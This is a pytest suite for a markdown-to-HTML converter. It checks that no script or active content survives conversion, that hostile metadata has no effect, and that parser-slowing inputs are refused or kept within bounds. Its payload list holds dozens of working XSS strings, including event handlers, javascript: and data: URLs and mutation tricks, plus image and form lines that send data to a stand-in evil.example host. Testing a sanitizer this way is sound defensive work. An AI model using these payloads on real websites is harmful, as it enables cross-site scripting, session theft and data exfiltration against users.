"""No text and no metadata makes a page do anything, or takes a machine for long."""

from __future__ import annotations

import contextlib
import runpy
import string
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st

from trainer.errors import ConversionError
from trainer_markdown import FormatConverter
from trainer_markdown.limits import WORK, Budget, readable
from trainer_markdown.markdown_writer import write
from trainer_markdown.reader import parse
from trainer_markdown.source import Source

PAYLOADS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</script>",
    "text <script\n>steal()</script\n> text",
    "<script/x>steal()</script>",
    "- <script>steal()</script>",
    "> <script>steal()</script>",
    "| a |\n|---|\n| <script>steal()</script> |",
    "## <script>steal()</script>",
    "[^1]\n\n[^1]: <script>steal()</script>",
    "Term\n: <script>steal()</script>",
    "`<script>steal()</script>`",
    "```html\n<script>steal()</script>\n```",
    "```<script>steal()</script>\nx\n```",
    "<img src=x onerror=steal()>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img/src=`x`onerror=steal()>",
    "<svg onload=steal()>",
    "<svg><script>steal()</script></svg>",
    "<svg><animate onbegin=steal() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
    "<iframe src=javascript:steal()></iframe>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x'>",
    "<form action='https://evil.example'><input name=q><button>Go</button></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p onclick=steal()>x</p>",
    "<b onmouseover=steal()>x</b>",
    "<br onclick=steal()>",
    "<sup style='position:fixed;inset:0'>x</sup>",
    "<video src='https://evil.example/x.mp4' autoplay></video>",
    "<audio><source src=x onerror=steal()></audio>",
    "<details open ontoggle=steal()>x</details>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea><img title='</textarea><img src=x onerror=steal()>'></textarea>",
    "<!--><img src=x onerror=steal()>-->",
    "<!-- --!><script>steal()</script> -->",
    "<![CDATA[<script>steal()</script>]]>",
    "<?php steal() ?>",
    "</article></main></body><script>steal()</script>",
    "</style><script>steal()</script>",
    "[x](javascript:steal())",
    "[x](JaVaScRiPt:steal())",
    "[x](java&#10;script:steal())",
    "[x](javascript&colon;steal())",
    "[x](&#x6A;avascript:steal())",
    "[x](<java\tscript:steal()>)",
    "[x](\x01javascript:steal())",
    "[x](%6Aavascript:steal())",
    "[x](vbscript:steal())",
    "[x](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](blob:https://evil.example/x)",
    "[x][r]\n\n[r]: javascript:steal()",
    "<javascript:steal()>",
    "<data:text/html,<script>steal()</script>>",
    '[x](https://e.example "t\\" onmouseover=steal() x=\\"")',
    '[x](https://e.example/"onmouseover="steal())',
    "[x](https://e.example/'onmouseover='steal())",
    "![x](https://evil.example/pixel.gif?secret)",
    "![x](//evil.example/pixel.gif)",
    "![x](javascript:steal())",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=)",
    '![x](data:image/png;base64,AA=="onerror="steal())',
    '!["onerror="steal()](data:image/png;base64,AA==)',
    '![x](data:image/png;base64,AA== "t\\"onerror=\\"steal()")',
    "![a][r]\n\n[r]: https://evil.example/pixel.gif",
    "https://e.example/<script>steal()</script>",
    'https://e.example/"onmouseover="steal()',
    "> [!NOTE] <img src=x onerror=steal()>\n> x",
    "Table: <script>steal()</script>\n\n| a |\n|---|\n| 1 |",
    "<b><script>steal()</script></b>",
    "&lt;script&gt;steal()&lt;/script&gt;",
    "&#60;img src=x onerror=steal()&#62;",
    "\\<script>steal()\\</script>",
    "<script>steal()",
    "<a href='javascript:steal()'>x</a>",
    "<a\nhref=javascript:steal()\n>x</a>",
    "---\ntitle: '</title><script>steal()</script>'\n---\nx",
    "---\nsources: [{url: 'javascript:steal()', name: '<script>steal()</script>'}]\n---\nx",
    "---\n'<script>': '<img src=x onerror=steal()>'\n---\nx",
]

HOSTILE = runpy.run_path(str(Path(__file__).parents[3] / "scripts/hostile.py"))
GROWING: dict[str, Callable[[int], str]] = HOSTILE["GROWING"]
MARKDOWN: dict[str, Callable[[int], str]] = HOSTILE["MARKDOWN"]


def used(text: str) -> float:
    """Processor time that reading and writing takes; a refusal takes time as well."""
    start = time.thread_time()
    with contextlib.suppress(ConversionError):
        write(parse(Source.read(text, {}).text)[0])
    return time.thread_time() - start


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives(convert, payload):
    assert convert(payload).active() == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_survives_between_other_words(convert, payload):
    page = convert(f"Before *the\n\n{payload}\n\nand after* it.")
    assert page.active() == []
    assert page.article.text.startswith("Before *the")


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>steal()</script>", '"><img src=x onerror=steal()>', "' onload='steal()", "</title><script>x</script>",
        "</style><script>x</script>", "javascript:steal()", "{{ 7 * 7 }}{% raw %}", "\ud800\0\x1b[31m", "x" * 100_000,
        -1, 1e400, float("nan"), True, None, [], {}, ["a", None, {"b": 1}], {"a": {"b": [1]}}, b"bytes", object(),
        [{"url": "javascript:steal()", "name": "<script>"}], [[1], 2], {"<script>": "<script>"}, [{1: 2}], 10**400,
    ],
    ids=lambda value: str(type(value).__name__),
)  # fmt: skip
@pytest.mark.parametrize(
    "key",
    ["title", "subtitle", "kicker", "run", "date", "model", "writer", "instruction", "params", "cost", "tokens", "prompt",
     "sources", "warnings", "findings", "other"],
)  # fmt: skip
def test_no_metadata_breaks_the_page_or_acts_on_it(convert, key, hostile):
    page = convert("The text.", **{"run": "r", key: hostile})
    assert page.active() == []
    assert page.article.text == "The text."
    assert "49" not in page.body.one("header").text


def test_a_source_with_a_hostile_address_shows_it_as_text(convert):
    section = convert("x", sources=[{"name": "n", "url": "javascript:steal()"}]).body.one("section", class_="appendix")
    assert section.all("a") == []
    assert "javascript:steal()" in section.text


@pytest.mark.parametrize("pattern", GROWING.values(), ids=GROWING)
def test_text_that_grows_on_its_reader_takes_time_in_proportion(pattern):
    used(pattern(2_000))
    times = [used(pattern(size)) for size in (10_000, 20_000, 40_000)]
    assert times[2] < 10 * times[0] + 0.1, times  # four times the text; in the square of it, sixteen times and more


@pytest.mark.parametrize("pattern", MARKDOWN.values(), ids=MARKDOWN)
def test_text_that_grows_on_its_reader_is_refused_or_becomes_a_page_of_bounded_size_and_depth(convert, pattern):
    text = pattern(20_000)
    try:
        page = convert(text)
    except ConversionError as refusal:
        assert refusal.remedy
        return
    assert page.deepest < 120
    assert len(page.html) < 60 * len(text) + 60_000


@pytest.mark.parametrize("text", ["[a](b) " * 60, "> " * 15 + "a\n" + "b\n" * 90, "- a\n" * 90, "a\n\n" * 120])
def test_reading_ends_with_its_budget_and_not_before(text, monkeypatch):
    parse(text)
    monkeypatch.setattr("trainer_markdown.reader.Budget", lambda: Budget(300))
    with pytest.raises(ConversionError, match="take too long to read"):
        parse(text)


@pytest.mark.parametrize("unit", ["word word\n\n", "- item\n", "a *b* `c` [d](e)\n\n", "# a\n", "*a **b "])
def test_the_end_of_too_long_a_text_is_shown_as_it_is_written_and_that_is_said(convert, unit):
    text = unit * (WORK // 20)
    cut = readable(text)
    assert cut < len(text)
    page = convert(text)
    last = page.article.all("pre")[-1]
    assert last.text == " ".join(text[cut:].split())
    line = text.count("\n", 0, cut) + 1
    assert f"From line {line:,} on it is shown as it is written" in page.body.one("div", class_="callout warning").text


@given(
    st.lists(st.sampled_from(["*a* ", "\n", "\n\n", "[b](c)", "word ", "x" * 3_000, "|", "- "]), max_size=60),
    st.integers(0, 900),
)
def test_a_text_is_cut_where_a_line_ends_and_by_its_own_signs_alone(parts, work):
    text = "".join(parts) * 20
    cut = readable(text, work)
    assert cut == readable(text, work) <= readable(text, work + 1)
    assert cut in {0, len(text)} or text[cut - 1] == "\n"
    assert readable(text[:cut], work) == cut


def test_a_text_of_few_signs_is_laid_out_whole_whatever_its_length():
    text = f"{'word ' * 1_000}\n\n" * 900
    assert readable(text) == len(text)


def test_formulas_beyond_counting_are_shown_as_tex(convert):
    page = convert("$`x^2`$ " * 8_000)
    drawn, shown = page.article.all("math"), page.article.all("code", class_="math")
    assert len(drawn) > 5_000
    assert len(drawn) + len(shown) == 8_000
    assert {element.text for element in shown} == {"x^2"}


def test_front_matter_that_is_longer_than_any_is_text(convert):
    page = convert("---\n" + "a: b\n" * 20_000 + "---\nwords")
    assert page.article.text.endswith("words")
    assert page.article.text.count("a: b") == 20_000


def test_emphasis_beyond_counting_is_left_as_it_is_written_and_declared(convert):
    page = convert("*a* " * 1000)
    assert page.article.text == "*a* " * 999 + "*a*"
    assert "marks of emphasis" in page.body.one("div", class_="callout warning").text


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("a" * 5_000_001, "5,000,000 are allowed"),
        ("€" * 1_700_000, "5,000,000 are allowed"),
        (b"a" * 5_000_001, "5,000,000 are allowed"),
        ("|" * 250_001, "250,000 are allowed"),
        ("&" * 100_001, "100,000 are allowed"),
        ("\u00a0" * 100_001, "100,000 are allowed"),
        ("|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|b|\n" * 1000, "250,000 cells"),
        ("[a]: <" + "b" * 100_000 + ">\n\n" + "[a] " * 1000, "10,000,000 characters"),
    ],
    ids=["characters", "bytes of characters", "bytes", "pipes", "ampersands", "spaces", "cells", "addresses"],
)
def test_text_beyond_the_limits_is_refused_with_the_limit(text, reason):
    with pytest.raises(ConversionError, match=reason) as caught:
        FormatConverter().convert(text, "markdown", "html")
    assert caught.value.remedy


def test_a_megabyte_of_prose_is_converted_whole(convert):
    paragraph = "The revenue of **Apple** rose by 5% to $391 billion, says [the filing](https://www.sec.gov).\n\n"
    page = convert(paragraph * (1_000_000 // len(paragraph)))
    assert len(page.article.all("p")) == 1_000_000 // len(paragraph)


SNIPPETS = [
    "*", "**", "_", "`", "```\n", "~~", "#", "## ", "\n", "\n\n", "    ", "- ", "1. ", "- [x] ", "> ", "> [!NOTE]\n", "|",
    "\n|---|---|\n", "| a | b |\n", "[", "](", ")", "![", "](javascript:x)", "](https://e.example)", "[^1]", "\n[^1]: ",
    "\n[r]: data:x\n", "<", ">", "<b>", "</b>", "<br>", "<script>", "</script>", "<img src=x onerror=y>", "<!--", "-->",
    "&", "&lt;", "&#0;", "\\", "\n: ", "---\n", "---", "Table: ", "$5", "-5", "https://e.example/", "www.", "\t", "\r", "\0", "é",
]  # fmt: skip
MARKUP = st.lists(st.sampled_from(SNIPPETS) | st.text(max_size=8), max_size=60).map("".join)
SLOW = settings(deadline=None)


@SLOW
@given(st.text() | MARKUP | st.binary())
@example("---\na: 1\n---\n")
@example("[^1]: a\n\n\ta[^1]")
def test_any_text_becomes_a_page_that_is_well_formed_and_does_nothing(convert, text):
    page = convert(text)
    assert page.active() == []
    assert len(page.root.all("h1")) == 1
    ids = [element.attrs["id"] for element in page.root.walk() if "id" in element.attrs]
    assert len(ids) == len(set(ids))


WORD = st.text(string.ascii_letters, min_size=3, max_size=9)
GLUE = st.sampled_from(
    [" ", "\n", "\n\n", " * ", " *", "* ", "**", "__", " _", "# ", "\n## ", "\n- ", "\n1. ", "\n> ", " | ", "\n|---|---|\n",
     "|\n|", " - ", "\n\n    ", "\n---\n", "\n***\n", " $", "%, ", " & ", " < ", " > ", "\\*", ". ", "!", "\n+ ", "\n===\n", " = ", "--"]
)  # fmt: skip


@SLOW
@given(st.lists(st.tuples(GLUE, WORD), max_size=40))
@example([("", "abc"), ("\n|---|\n", "def")])
def test_every_word_of_a_text_is_on_its_page(convert, parts):
    text = "".join(glue + word for glue, word in parts)
    shown = convert(text).body.text
    assert [word for _, word in parts if word not in shown] == []


@SLOW
@given(st.dictionaries(st.text() | st.sampled_from(["title", "run", "sources", "params"]), st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3), max_leaves=8), max_size=6))  # fmt: skip
def test_any_metadata_is_shown_without_effect(convert, metadata):
    assert convert("x", **metadata).active() == []
